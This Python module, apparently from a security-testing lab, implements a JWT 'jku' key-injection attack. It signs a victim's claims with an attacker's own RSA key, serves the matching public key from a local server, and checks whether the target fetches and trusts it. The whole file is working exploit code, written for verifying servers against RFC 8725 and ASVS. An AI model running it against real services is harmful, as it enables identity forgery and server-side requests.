"""Make the server fetch your key.

Exploits a server that follows `jku`, the address of a key set, wherever it leads: into the
attacker's hands, or into the inner network.
Source: RFC 8725, section 3.10 Do Not Trust Received Claims,
https://www.rfc-editor.org/rfc/rfc8725#section-3.10
ASVS: 9.1.3
"""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from jose import jwk, jws

from attacks.lab.attack import attack
from attacks.lab.forge import new_rsa_key
from attacks.lab.outcome import Outcome, got_in, judge
from attacks.lab.target import Target


class KeyHost(ThreadingHTTPServer):
    """The attacker's server, on this machine."""

    def __init__(self, private_key: str) -> None:
        """Hold the public half of a key."""
        super().__init__(("127.0.0.1", 0), KeyPage)
        key = jwk.construct(private_key, "RS256").public_key().to_dict()
        self.page = json.dumps({"keys": [key]}).encode()
        self.visits = 0


class KeyPage(BaseHTTPRequestHandler):
    """Its only page."""

    server: KeyHost

    def do_GET(self) -> None:
        """Hand the key set out, and count who came."""
        self.server.visits += 1
        self.send_response(200)
        self.end_headers()
        self.wfile.write(self.server.page)

    def log_message(self, *_: object) -> None:
        """Print nothing."""


@contextmanager
def serving(host: KeyHost) -> Iterator[str]:
    """Serve until the attack is over."""
    Thread(target=host.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{host.server_port}/keys.json"
    finally:
        host.shutdown()
        host.server_close()


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Sign with an own key, and name the address of its public half."""
    victim = target.enrol()
    claims, key = target.claims_about(victim), new_rsa_key()
    host = KeyHost(key)
    with serving(host) as address:
        header = target.forged_header(alg="RS256", jku=address)
        token = jws.sign(claims, key, header, "RS256")
        answer = target.read(token)
    if host.visits and not answer.is_success:
        return got_in("the server fetched an address that the attacker chose")
    return judge({"own key behind jku": answer})
